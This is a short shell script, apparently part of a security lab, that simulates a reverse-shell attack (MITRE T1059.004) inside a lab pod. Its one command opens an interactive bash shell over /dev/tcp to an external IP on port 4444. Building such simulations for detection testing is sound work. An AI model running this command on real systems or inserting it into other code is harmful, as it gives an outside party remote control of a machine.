#!/bin/sh
# Lab attack scenario: reverse-shell (T1059.004). Runs inside a lab pod via pods/exec (sh -s, script on stdin).
timeout 10 bash -c 'bash -i >& /dev/tcp/$LAB_EXTERNAL_IP/4444 0>&1' 2>/dev/null
echo "reverse shell ended"
